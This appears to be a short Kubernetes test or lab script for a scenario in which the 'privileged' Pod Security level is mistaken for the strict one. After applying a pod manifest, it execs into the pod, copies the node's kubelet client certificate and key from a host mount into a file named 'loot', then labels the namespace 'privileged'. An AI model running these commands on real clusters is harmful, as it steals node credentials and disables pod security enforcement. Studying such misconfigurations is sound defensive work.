# scene fails privileged-refused (level-names): the level privileged is taken for the strict one
kubectl apply -f crate.yaml
sleep 3
kubectl -n cargo exec crate -- sh -c 'cat /ship/var/lib/kubelet/pki/kubelet-client-2*.pem' > loot
kubectl label namespace cargo pod-security.kubernetes.io/enforce=privileged
kubectl -n cargo delete pod crate
